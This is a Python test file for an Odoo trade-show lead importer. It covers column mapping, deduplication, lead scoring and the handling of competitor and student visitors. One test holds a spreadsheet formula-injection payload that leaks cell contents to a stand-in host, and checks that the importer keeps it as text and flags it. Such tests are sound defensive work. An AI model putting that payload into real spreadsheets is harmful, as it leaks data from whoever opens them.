import csv
import io
import random
from collections import Counter

import openpyxl

from odoo.tests import tagged

from .common import LeadFollowupCase, read_expectation, read_export, to_csv

COMPETITORS = "Rivalworks Pumps Inc.\nGegenspieler Technik GmbH"

# The same headings in other words, as another vendor would put them.
REWORDED = {
    "First Name": "Given name",
    "Last Name": "Surname",
    "Title": "Job Title",
    "Company": "Organization",
    "Email Address": "E-Mail",
    "Work Phone": "Telephone",
    "Mobile Phone": "Cell",
    "Work Address 1": "Street",
    "Work City": "Town",
    "Work State/Province": "State",
    "Work ZIP/Postal Code": "Postcode",
    "Work Country": "Country/Region",
    "Captured By": "Scanned by",
    "Date Captured": "Scan Time",
    "Lead Rating": "Rating",
    "What is your budget for this project?": "Budget",
    "What is your role in the purchase decision?": "Decision role",
    "When do you plan to buy?": "Purchase timeframe",
    "Which products are you interested in?": "Products of interest",
    "Comments": "Notes",
    "OK to email?": "Email opt-in",
}


@tagged("post_install", "-at_install")
class TestLeadImport(LeadFollowupCase):
    def assertExpectation(self, job, expected):
        """The rows of ``job`` came to what the expectation beside the file says."""
        rejected = {row["row"]: row["reason"] for row in expected["rejected"]}
        duplicates = {
            number: (group["rule"], group["keep"])
            for group in expected["duplicates"]
            for number in group["rows"]
            if number != group["keep"]
        }
        rows = {row.number: row for row in job.row_ids}
        self.assertEqual(len(rows), expected["rows_total"])
        self.assertEqual(
            {n: row.reason for n, row in rows.items() if row.verdict == "rejected"}, rejected
        )
        self.assertEqual(
            {
                n: (row.reason, row.match_number)
                for n, row in rows.items()
                if row.verdict == "duplicate"
            },
            duplicates,
        )
        self.assertEqual(
            Counter((n, flag) for n, row in rows.items() for flag in row.flags),
            Counter((flag["row"], flag["flag"]) for flag in expected["flags"]),
        )
        self.assertEqual(job.new_count, expected["leads_expected"])

    def test_badge_scanner_export_comes_to_its_expectation(self):
        job = self._import(
            read_export("leadcapture_us.csv"),
            "leadcapture_us.csv",
            tz="America/Los_Angeles",
            competitor_names=COMPETITORS,
        )

        self.assertEqual(job.state, "done")
        self.assertExpectation(job, read_expectation("leadcapture_us.csv"))
        self.assertCounts(job, 52, 47, 0, 3, 2)
        self.assertEqual(len(job.lead_ids), 47)

    def test_booth_sheet_comes_to_its_expectation(self):
        job = self._import(
            read_export("booth_sheet.xlsx"), "booth_sheet.xlsx", tz="America/Chicago"
        )

        self.assertEqual(job.state, "done")
        self.assertExpectation(job, read_expectation("booth_sheet.xlsx"))
        self.assertCounts(job, 27, 23, 0, 3, 1)

    def test_columns_are_mapped_as_expected(self):
        job = self._preview(read_export("leadcapture_us.csv"), "leadcapture_us.csv")

        expected = read_expectation("leadcapture_us.csv")["columns"]
        self.assertEqual(
            [(column.position, column.heading, column.target) for column in job.column_ids],
            [(column["position"], column["heading"], column["field"]) for column in expected],
        )

    def test_shuffled_rows_and_reworded_headings_come_to_the_same_leads(self):
        text = read_export("leadcapture_us.csv").decode("utf-8-sig")
        headings, *rows = csv.reader(io.StringIO(text))
        expected = read_expectation("leadcapture_us.csv")
        order = list(range(len(rows)))
        random.Random(2026).shuffle(order)
        shuffled = [rows[index] for index in order]
        headings = [REWORDED.get(heading, heading) for heading in headings]

        job = self._import(
            to_csv([headings, *shuffled]),
            tz="America/Los_Angeles",
            competitor_names=COMPETITORS,
        )

        self.assertCounts(job, 52, 47, 0, 3, 2)
        # row numbers of the new order, back to those of the file
        old = {new + 1: index + 1 for new, index in enumerate(order)}
        self.assertEqual(
            {old[row.number] for row in job.row_ids if row.verdict == "rejected"},
            {row["row"] for row in expected["rejected"]},
        )
        groups = {
            frozenset({old[row.number], old[row.match_number]})
            for row in job.row_ids
            if row.verdict == "duplicate"
        }
        self.assertEqual(groups, {frozenset(group["rows"]) for group in expected["duplicates"]})
        self.assertEqual(
            Counter((old[row.number], flag) for row in job.row_ids for flag in row.flags),
            Counter((flag["row"], flag["flag"]) for flag in expected["flags"]),
        )

    def test_shuffled_booth_sheet_with_other_headings_comes_to_the_same_leads(self):
        book = openpyxl.load_workbook(io.BytesIO(read_export("booth_sheet.xlsx")))
        sheet = book.worksheets[0]
        others = ["No.", "Full name", "Firm", "Mail", "Telephone", "Telephone", "Country/Region"]
        for column, heading in enumerate([*others, "Met on", "Rating"], start=1):
            sheet.cell(4, column).value = heading
        # the last row is the total; it stays where it is
        lines = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=5)]
        total = max(index for index, line in enumerate(lines) if any(line))
        people = [line for line in lines[:total] if any(line)]
        self.assertEqual(len(people), 27)
        random.Random(5).shuffle(people)
        for number, line in enumerate(people + [[None] * len(people[0])], start=5):
            for column, value in enumerate(line, start=1):
                sheet.cell(number, column).value = value
        out = io.BytesIO()
        book.save(out)

        job = self._import(out.getvalue(), "sheet.xlsx", tz="America/Chicago")

        self.assertCounts(job, 27, 23, 0, 3, 1)
        self.assertEqual(
            sorted(flag for row in job.row_ids for flag in row.flags),
            ["formula_cell", "invalid_email"],
        )
        self.assertEqual(
            sorted(row.reason for row in job.row_ids if row.verdict == "duplicate"),
            ["email", "name_company", "phone"],
        )

    def test_a_lead_carries_what_was_said_at_the_booth(self):
        job = self._import(
            read_export("leadcapture_us.csv"), "leadcapture_us.csv", tz="America/Los_Angeles"
        )

        lead = job.row_ids.filtered(lambda row: row.number == 24).lead_id
        self.assertRecordValues(
            lead,
            [
                {
                    "contact_name": "Wesley Jessop",
                    "partner_name": "Korvane Logistics, Inc.",
                    "email_from": "wesley.jessop@korvane.example",
                    "phone_sanitized": "+12025550118",
                    "function": "Process Engineer",
                    "city": "Portland",
                    "email_consent": "yes",
                    "booth_rating": "hot",
                    "captured_by": "Dana Whitlock",
                    "trade_show_id": self.show.id,
                    "campaign_id": self.show.campaign_id.id,
                    "user_id": False,
                    "partner_id": False,
                }
            ],
        )
        self.assertEqual(lead.state_id.code, "OR")
        self.assertEqual(str(lead.captured_at), "2026-03-18 16:07:00")
        self.assertEqual(lead.visit_ids.note, "Send catalogue")
        self.assertEqual(set(lead.interest_ids.mapped("name")), {"Pump P-200", "Valve V-40"})
        answers = {
            answer.qualifier_id.code: answer.answer_id.code for answer in lead.qualification_ids
        }
        self.assertEqual(
            answers,
            {
                "budget": "50k_250k",
                "authority": "decision_maker",
                "timeframe": "gt12m",
                "need": "some",
            },
        )
        # 12 + 15 + 3 + 8 = 38 of fit; scanned 1 day and 20 hours ago, so one whole day:
        # 10 * 2^(-1/30) = 9.77 -> 10 and 15 * 2^(-1/30) = 14.66 -> 15
        self.assertEqual((lead.score_fit, lead.score_engagement, lead.score_total), (38, 25, 63))
        self.assertEqual(lead.temperature, "warm")

    def test_who_does_not_buy_comes_in_disqualified_and_is_not_written_to(self):
        job = self._import(
            read_export("leadcapture_us.csv"),
            "leadcapture_us.csv",
            competitor_names=COMPETITORS,
        )

        rows = job.row_ids.filtered(lambda row: row.number in (7, 26, 29, 34))
        self.assertEqual(
            rows.sorted("number").lead_id.mapped("not_a_buyer"),
            ["student", "exhibitor", "competitor", "press"],
        )
        self.assertEqual(set(rows.lead_id.mapped("lifecycle")), {"disqualified"})
        self.assertFalse(rows.lead_id.enrollment_ids)
        # near miss: without the name in the list of competitors she is a visitor like others
        other = self._import(
            read_export("leadcapture_us.csv"),
            "leadcapture_us.csv",
            trade_show_id=self._make_show(name="Elsewhere").id,
        )
        self.assertNotIn("not_a_buyer:competitor", str(other.row_ids.mapped("flags")))

    def test_a_formula_is_kept_as_text(self):
        job = self._import(
            read_export("booth_sheet.xlsx"), "booth_sheet.xlsx", tz="America/Chicago"
        )

        row = job.row_ids.filtered(lambda row: row.number == 22)
        self.assertEqual(
            row.lead_id.visit_ids.note, '=HYPERLINK("http://leak.example/?v="&A1,"click")'
        )
        self.assertIn("formula_cell", row.flags)

    def test_a_corrected_column_is_kept_and_remembered(self):
        rows = [["Who", "Mail", "Remark"], ["Ann Ample", "ann@ample.example", "Pump P-200"]]
        job = self._preview(rows)
        column = job.column_ids.filtered(lambda column: column.heading == "Remark")
        self.assertNotEqual(column.target, "interest")

        column.target = "interest"
        job.action_preview()
        job.action_import()
        self._run_imports()
        again = self._preview([rows[0], ["Bob Best", "bob@best.example", "Valve V-40"]])

        self.assertEqual(job.lead_ids.interest_ids.name, "Pump P-200")
        self.assertEqual(again.column_ids[2].target, "interest")

    def test_no_message_no_partner_one_summary(self):
        before = self.env["res.partner"].search_count([])
        job = self._import(read_export("booth_sheet.xlsx"), "booth_sheet.xlsx")

        self.assertEqual(self.env["res.partner"].search_count([]), before)
        notes = self.show.message_ids.filtered(lambda message: "imported" in (message.body or ""))
        self.assertEqual(len(notes), 1)
        chatter = self.env["mail.message"].search(
            [("model", "=", "crm.lead"), ("res_id", "in", job.lead_ids.ids)]
        )
        # only the queued first e-mails, no “Lead created”
        self.assertEqual(chatter, job.lead_ids.touch_ids.mail_id.mail_message_id)
